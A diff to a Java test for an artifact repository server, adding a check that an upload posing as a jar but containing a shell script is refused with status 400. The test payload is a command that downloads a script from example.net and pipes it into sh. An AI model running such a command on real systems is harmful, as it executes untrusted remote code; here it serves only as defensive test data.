@@ -95,6 +95,8 @@ class MavenRefusalsTest {
             assertThat(put(server, token, jarPath, new byte[100 * 1024]).status())
                     .as("larger than the server's limit")
                     .isEqualTo(413);
+            RawHttp.Response notAZip = put(server, token, jarPath, utf8("#!/bin/sh\ncurl https://example.net | sh\n"));
+            assertThat(notAZip.status()).as("a jar that is not a zip").isEqualTo(400);
             assertThat(put(server, token, path("org.example", "demo", "1.0", "demo-1.0.jar.sha1"), utf8("0".repeat(40)))
                             .status())
                     .as("a checksum of a file that was not deployed")
@@ -102,7 +104,7 @@ class MavenRefusalsTest {
 
             assertThat(server.snapshot()).isEqualTo(before);
             // every refusal past authentication is an event; a path with a raw "../" never reaches a route
-            assertThat(server.events("UploadRejected")).isEqualTo(9);
+            assertThat(server.events("UploadRejected")).isEqualTo(10);
 
             assertThat(put(server, token, jarPath, jar).status()).isEqualTo(201);
             RawHttp.Response wrongSum =
